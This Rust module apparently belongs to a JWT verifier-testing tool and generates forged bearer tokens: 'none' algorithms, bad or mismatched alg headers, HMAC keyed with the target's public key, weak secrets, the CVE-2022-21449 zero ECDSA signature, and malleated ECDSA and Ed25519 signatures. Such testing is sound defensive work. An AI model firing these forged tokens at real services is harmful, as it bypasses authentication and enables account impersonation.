//! Algorithm mutations: `none`, malformed or mismatched `alg`, other algorithms with the trusted key,
//! HMAC keyed with the target's public key (key confusion), weak HMAC secrets, and forged ECDSA/EdDSA
//! signatures (RFC 8725 §2.1, §3.1; CVE-2022-21449).

use serde_json::{Map, Value};

use super::context::MutationContext;
use super::types::{AttackRequest, MutationError};
use super::util::{json_text, split3};
use crate::token::jws::Forge;
use der::Encode as _;

use crate::token::keys::{KeyKind, PublicKey, der_uint};
use crate::token::{Alg, AlgFamily, b64};

type Outcome = Result<AttackRequest, MutationError>;

/// An `alg` value no registry defines.
pub(super) const UNKNOWN_ALG: &str = "XS256";

fn header_with_alg(ctx: &MutationContext, alg: Value) -> Map<String, Value> {
    let mut header = ctx.header();
    header.insert("alg".into(), alg);
    header
}

/// `alg` set to a `none` spelling; empty signature or the original one kept.
pub(super) fn alg_none(ctx: &MutationContext, alg: &str, keep_signature: bool) -> Outcome {
    let forge = Forge::new(
        json_text(&header_with_alg(ctx, alg.into())),
        json_text(&ctx.claims()),
    );
    if keep_signature {
        let valid = ctx.valid_token()?;
        let (_, _, signature) = split3(&valid);
        Ok(AttackRequest::bearer(format!(
            "{}.{signature}",
            forge.signing_input()
        )))
    } else {
        Ok(AttackRequest::bearer(forge.unsigned()))
    }
}

fn signed_with_header(ctx: &MutationContext, header: &Map<String, Value>) -> Outcome {
    Ok(AttackRequest::bearer(ctx.sign(header, &ctx.claims())?))
}

pub(super) fn alg_missing(ctx: &MutationContext) -> Outcome {
    let mut header = ctx.header();
    header.remove("alg");
    signed_with_header(ctx, &header)
}

pub(super) fn alg_null(ctx: &MutationContext) -> Outcome {
    signed_with_header(ctx, &header_with_alg(ctx, Value::Null))
}

pub(super) fn alg_empty(ctx: &MutationContext) -> Outcome {
    signed_with_header(ctx, &header_with_alg(ctx, "".into()))
}

pub(super) fn alg_unknown(ctx: &MutationContext) -> Outcome {
    signed_with_header(ctx, &header_with_alg(ctx, UNKNOWN_ALG.into()))
}

pub(super) fn alg_lowercase(ctx: &MutationContext) -> Outcome {
    signed_with_header(
        ctx,
        &header_with_alg(ctx, ctx.alg().as_str().to_ascii_lowercase().into()),
    )
}

/// The header's `alg` for `alg-mismatch`: HS256 for an asymmetric key, EdDSA for an HMAC key.
pub(super) fn mismatched_alg(ctx: &MutationContext) -> Alg {
    if ctx.alg().family() == AlgFamily::Hmac {
        Alg::EdDsa
    } else {
        Alg::Hs256
    }
}

pub(super) fn alg_mismatch(ctx: &MutationContext) -> Outcome {
    signed_with_header(
        ctx,
        &header_with_alg(ctx, mismatched_alg(ctx).as_str().into()),
    )
}

/// The trusted key signing under another algorithm of its family.
pub(super) fn other_alg_same_key(ctx: &MutationContext, alg: Alg) -> Outcome {
    if alg == ctx.alg() || !ctx.issuer.kind().supports(alg) {
        return Err(MutationError::NotApplicable(format!(
            "{alg} is not another algorithm for the issuer's {} key",
            ctx.issuer.kind()
        )));
    }
    let header = header_with_alg(ctx, alg.as_str().into());
    let forge = Forge::new(json_text(&header), json_text(&ctx.claims()));
    Ok(AttackRequest::bearer(
        forge.sign_as(ctx.trusted_key()?, alg)?,
    ))
}

/// A public-key encoding used as an HMAC secret.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum KeyEncoding {
    /// SPKI PEM with its trailing newline.
    Pem,
    /// SPKI PEM without the trailing newline.
    PemNoNewline,
    /// SPKI PEM with CRLF line endings.
    PemCrlf,
    /// PKCS#1 `RSA PUBLIC KEY` PEM (RSA only).
    Pkcs1Pem,
    /// SPKI DER.
    Der,
    /// PKCS#1 DER (RSA only).
    Pkcs1Der,
    /// The public JWK as compact JSON text.
    JwkJson,
    /// Raw key bytes (Ed25519 `x`, EC point, RSA modulus).
    Raw,
    /// An OpenSSH public key line.
    OpenSsh,
}

impl std::fmt::Display for KeyEncoding {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            KeyEncoding::Pem => "SPKI PEM",
            KeyEncoding::PemNoNewline => "SPKI PEM without its final newline",
            KeyEncoding::PemCrlf => "SPKI PEM with CRLF line endings",
            KeyEncoding::Pkcs1Pem => "PKCS#1 PEM",
            KeyEncoding::Der => "SPKI DER",
            KeyEncoding::Pkcs1Der => "PKCS#1 DER",
            KeyEncoding::JwkJson => "the public JWK as JSON text",
            KeyEncoding::Raw => "the raw key bytes",
            KeyEncoding::OpenSsh => "an OpenSSH public key line",
        })
    }
}

/// The HMAC secret bytes an encoding yields, or `None` when it does not exist for the key type.
pub(crate) fn encoded_key(key: &PublicKey, encoding: KeyEncoding) -> Option<Vec<u8>> {
    Some(match encoding {
        KeyEncoding::Pem => key.spki_pem().into_bytes(),
        KeyEncoding::PemNoNewline => key.spki_pem().trim_end().as_bytes().to_vec(),
        KeyEncoding::PemCrlf => key.spki_pem().replace('\n', "\r\n").into_bytes(),
        KeyEncoding::Pkcs1Pem => key.pkcs1_pem()?.into_bytes(),
        KeyEncoding::Der => key.spki_der(),
        KeyEncoding::Pkcs1Der => key.pkcs1_der()?,
        KeyEncoding::JwkJson => key.jwk_json().into_bytes(),
        KeyEncoding::Raw => key.raw(),
        KeyEncoding::OpenSsh => key.openssh().into_bytes(),
    })
}

/// HS256/384/512 keyed with the target's public key in one encoding.
pub(super) fn key_confusion(ctx: &MutationContext, alg: Alg, encoding: KeyEncoding) -> Outcome {
    let public = ctx.target_public()?;
    let secret = encoded_key(public, encoding).ok_or_else(|| {
        MutationError::NotApplicable(format!(
            "{encoding} exists only for RSA keys, the target has {}",
            public.kind().a_key()
        ))
    })?;
    let header = header_with_alg(ctx, alg.as_str().into());
    let forge = Forge::new(json_text(&header), json_text(&ctx.claims()));
    Ok(AttackRequest::bearer(forge.hmac(alg, &secret)))
}

/// HS256 under fixed key bytes (empty, a guessed secret).
pub(super) fn hmac_with(ctx: &MutationContext, secret: &[u8]) -> Outcome {
    let header = header_with_alg(ctx, Alg::Hs256.as_str().into());
    let forge = Forge::new(json_text(&header), json_text(&ctx.claims()));
    Ok(AttackRequest::bearer(forge.hmac(Alg::Hs256, secret)))
}

/// The DER `ECDSA-Sig-Value` with r = s = 0 (base64 `MAYCAQACAQA`).
pub(super) const PSYCHIC_DER: [u8; 8] = [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];

/// An ES256/ES384 header with an r = s = 0 signature, raw (`der == false`) or DER.
pub(super) fn psychic(ctx: &MutationContext, alg: Alg, der: bool) -> Outcome {
    ctx.target_public()?;
    let header = header_with_alg(ctx, alg.as_str().into());
    let forge = Forge::new(json_text(&header), json_text(&ctx.claims()));
    let signature = match (der, alg) {
        (true, _) => PSYCHIC_DER.to_vec(),
        (false, Alg::Es384) => vec![0u8; 96],
        (false, _) => vec![0u8; 64],
    };
    Ok(AttackRequest::bearer(forge.with_signature(&signature)))
}

/// The curve order n of P-256 / P-384, big-endian.
pub(crate) fn curve_order(alg: Alg) -> &'static [u8] {
    const P256_N: [u8; 32] = [
        0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
        0xff, 0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63,
        0x25, 0x51,
    ];
    const P384_N: [u8; 48] = [
        0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
        0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xc7, 0x63, 0x4d, 0x81, 0xf4, 0x37,
        0x2d, 0xdf, 0x58, 0x1a, 0x0d, 0xb2, 0x48, 0xb0, 0xa7, 0x7a, 0xec, 0xec, 0x19, 0x6a, 0xcc,
        0xc5, 0x29, 0x73,
    ];
    if alg == Alg::Es384 { &P384_N } else { &P256_N }
}

/// `a - b` for equal-length big-endian numbers with `a >= b`.
pub(crate) fn sub_be(a: &[u8], b: &[u8]) -> Vec<u8> {
    let mut out = vec![0u8; a.len()];
    let mut borrow = 0i16;
    for i in (0..a.len()).rev() {
        let mut d = i16::from(a[i]) - i16::from(b.get(i).copied().unwrap_or(0)) - borrow;
        borrow = i16::from(d < 0);
        if d < 0 {
            d += 256;
        }
        out[i] = d as u8;
    }
    out
}

fn ecdsa_issuer(ctx: &MutationContext) -> Result<(), MutationError> {
    match ctx.issuer.kind() {
        KeyKind::EcP256 | KeyKind::EcP384 => Ok(()),
        kind => Err(MutationError::NotApplicable(format!(
            "needs an ECDSA issuer, the issuer has {}",
            kind.a_key()
        ))),
    }
}

fn valid_parts(ctx: &MutationContext) -> Result<(String, Vec<u8>), MutationError> {
    let valid = ctx.valid_token()?;
    let (h, p, s) = split3(&valid);
    Ok((
        format!("{h}.{p}"),
        b64::decode_strict(s.as_bytes()).unwrap_or_default(),
    ))
}

/// A valid ES256/ES384 signature re-encoded as DER instead of raw `r || s`.
pub(super) fn ecdsa_der_encoded(ctx: &MutationContext) -> Outcome {
    ecdsa_issuer(ctx)?;
    let (input, raw) = valid_parts(ctx)?;
    let (r, s) = raw.split_at(raw.len() / 2);
    // Ecdsa-Sig-Value ::= SEQUENCE { r INTEGER, s INTEGER } (RFC 3279 §2.2.3).
    let der = der_uint(r)
        .and_then(|r| [r, der_uint(s)?].to_der())
        .map_err(|e| MutationError::NotApplicable(format!("DER signature: {e}")))?;
    Ok(AttackRequest::bearer(format!(
        "{input}.{}",
        b64::encode(&der)
    )))
}

/// A valid ECDSA signature with one zero byte appended (wrong length).
pub(super) fn ecdsa_extra_byte(ctx: &MutationContext) -> Outcome {
    ecdsa_issuer(ctx)?;
    let (input, mut raw) = valid_parts(ctx)?;
    raw.push(0);
    Ok(AttackRequest::bearer(format!(
        "{input}.{}",
        b64::encode(&raw)
    )))
}

/// A valid ECDSA signature with `r` replaced by the curve order `n` (out of range, must be refused).
pub(super) fn ecdsa_r_equals_order(ctx: &MutationContext) -> Outcome {
    ecdsa_issuer(ctx)?;
    let (input, raw) = valid_parts(ctx)?;
    let (_, s) = raw.split_at(raw.len() / 2);
    let forged = [curve_order(ctx.alg()), s].concat();
    Ok(AttackRequest::bearer(format!(
        "{input}.{}",
        b64::encode(&forged)
    )))
}

/// A valid ECDSA signature's high-S twin `(r, n - s)` (malleability): a fresh signature is drawn until its
/// `s` is low, so the result always has `s > n / 2`.
pub(super) fn ecdsa_high_s(ctx: &MutationContext) -> Outcome {
    ecdsa_issuer(ctx)?;
    let order = curve_order(ctx.alg());
    for _ in 0..64 {
        let (input, raw) = valid_parts(ctx)?;
        let (r, s) = raw.split_at(raw.len() / 2);
        let twin = sub_be(order, s);
        if twin.as_slice() > s {
            let high = [r, &twin].concat();
            return Ok(AttackRequest::bearer(format!(
                "{input}.{}",
                b64::encode(&high)
            )));
        }
    }
    Err(MutationError::NotApplicable(
        "no low-S signature drawn in 64 attempts".into(),
    ))
}

/// The Ed25519 group order L, little-endian.
pub(crate) const ED25519_L: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

/// A valid Ed25519 signature with `S` replaced by `S + L` (non-canonical, RFC 8032 §5.1.7).
pub(super) fn eddsa_noncanonical(ctx: &MutationContext) -> Outcome {
    if ctx.issuer.kind() != KeyKind::Ed25519 {
        return Err(MutationError::NotApplicable(
            "needs an Ed25519 issuer".into(),
        ));
    }
    let (input, mut raw) = valid_parts(ctx)?;
    if raw.len() != 64 {
        return Err(MutationError::NotApplicable(
            "unexpected Ed25519 signature length".into(),
        ));
    }
    let mut carry = 0u16;
    for (i, l) in ED25519_L.iter().enumerate() {
        let sum = u16::from(raw[32 + i]) + u16::from(*l) + carry;
        raw[32 + i] = sum as u8;
        carry = sum >> 8;
    }
    Ok(AttackRequest::bearer(format!(
        "{input}.{}",
        b64::encode(&raw)
    )))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn big_endian_subtraction() {
        assert_eq!(sub_be(&[1, 0], &[0, 1]), vec![0, 255]);
        assert_eq!(sub_be(&[0xff, 0xff], &[0xff, 0xff]), vec![0, 0]);
    }
}
